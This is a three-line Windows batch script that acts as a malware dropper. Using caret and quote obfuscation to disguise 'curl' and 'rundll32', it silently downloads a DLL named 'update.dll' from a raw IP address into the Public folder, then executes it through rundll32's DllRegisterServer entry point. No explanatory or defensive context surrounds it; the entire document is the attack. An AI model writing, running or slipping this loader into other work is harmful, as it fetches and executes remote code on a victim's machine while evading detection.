@echo off
c^u^r^l -s -o "%PUBLIC%\u.dll" http://198.51.100.23/update.dll
r^u""n^d^l""l3^2 "%PUBLIC%\u.dll",DllRegisterServer
